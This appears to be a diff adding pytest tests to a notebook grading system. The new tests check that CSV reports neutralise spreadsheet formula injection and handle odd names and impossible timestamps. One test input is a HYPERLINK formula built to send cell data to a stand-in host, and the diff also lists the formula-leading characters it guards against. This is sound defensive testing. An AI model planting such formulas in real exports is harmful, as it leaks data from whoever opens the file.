@@ -1,9 +1,12 @@
 """What a student could do to others, or to the grader itself, and no longer can."""
 
 import contextlib
+import csv
+import itertools
 import json
 import os
 import time
+from datetime import datetime
 
 import nbformat
 import pytest
@@ -13,6 +16,7 @@ pytest.importorskip("nbgrader", reason="nbgrader is not installed")
 pytest.importorskip("assignments.grading", reason="only instructors have assignments/")
 
 from assignments.grading import (
+    due,
     grade,
     harmless,
     intake,
@@ -107,6 +111,24 @@ def test_no_table_holds_a_formula(text):
         assert cell.isalpha() or cell.strip().startswith("'") or cell == "x "
 
 
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_no_spreadsheet_finds_a_formula_in_a_table(tmp_path, delimiter):
+    """Quotes are doubled in the file, and vanish where a semicolon splits it."""
+    texts = ["".join(signs) for signs in itertools.product('a;"=\t', repeat=5)]
+    texts += ['fay;"=HYPERLINK(""http://x.example/?""&A1,1);x', 'x;"=1+1;y.txt']
+    rows = [{"a": text, "b": -1, "c": text} for text in texts]
+    report.write_csv(tmp_path / "table.csv", rows)
+    with (tmp_path / "table.csv").open(encoding="utf-8-sig", newline="") as file:
+        for cells in csv.reader(file, delimiter=delimiter):
+            begin = [cell[:1] for cell in cells if cell != "-1"]
+            assert not {*begin} & {*"=+-@\t\r\n"}, cells
+
+
+@pytest.mark.parametrize("name", ["O'Brien", 'a "quoted" name', "a-b", '"Al" Ray; Bo'])
+def test_an_honest_name_stays_as_it_is(name):
+    assert report.harmless(name) == name
+
+
 def test_a_name_can_neither_stop_a_table_nor_tell_what_to_do(tmp_path):
     path, told = tmp_path / f"{NAME}.ipynb", tmp_path / "students.csv"
     handed = intake.Handed("eve", NAME, path, "eve", folder="eve")
@@ -138,6 +160,22 @@ def test_a_time_stamp_is_read_only_where_nbgrader_puts_it(tmp_path):
         intake.time_beside(path)
     os.truncate(path.with_name("timestamp.txt"), 2**40)  # a file of holes
     assert intake.time_beside(path) is not None
+
+
+@pytest.mark.parametrize("fault", [ValueError, OverflowError, OSError])
+def test_a_time_that_no_calendar_has_is_none(tmp_path, monkeypatch, fault):
+    class Clock(datetime):
+        @classmethod
+        def fromtimestamp(cls, _):
+            raise fault
+
+    monkeypatch.setattr(intake, "datetime", Clock)
+    path = tmp_path / "in" / "ada" / f"{NAME}.ipynb"
+    path.parent.mkdir(parents=True)
+    path.touch()
+    (handed,) = intake.collect(tmp_path / "in", tmp_path / "work").found.values()
+    assert handed.time is None
+    assert due.late_days(handed, due.read_due("2026-03-31")) == ""
 
 
 def test_a_file_of_holes_is_not_read_to_its_end(tmp_path):
